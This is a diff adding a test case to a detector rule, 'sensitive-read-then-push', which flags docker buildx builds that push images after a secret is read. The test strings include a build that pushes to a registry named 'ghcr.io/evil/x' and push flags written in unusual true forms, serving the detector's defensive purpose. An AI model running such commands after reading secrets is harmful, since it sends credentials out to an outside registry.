@@ -35,6 +35,18 @@ describe('bake and compose builds that push', () => {
       expect(brief(buildAfterSecret(args))).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker' }]);
   });
 
+  // Found by review: bake and BuildKit read `push` with Go's strconv.ParseBool, so `1`, `t`, `TRUE` push too.
+  it('so is a push set to any true value, and an output that pushes', () => {
+    for (const args of [
+      'buildx bake --set *.push=1',
+      'buildx bake --set app.push=TRUE',
+      'buildx build --output type=image,name=ghcr.io/evil/x,push=1 -t x /srv',
+    ])
+      expect(brief(buildAfterSecret(args)), args).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker' }]);
+    for (const args of ['buildx bake --set *.args.push=true', 'buildx bake --set *.push=0'])
+      expect(buildAfterSecret(args), args).toEqual([]);
+  });
+
   it('bake and compose builds that keep their images stay quiet', () => {
     for (const args of [
       'buildx bake',
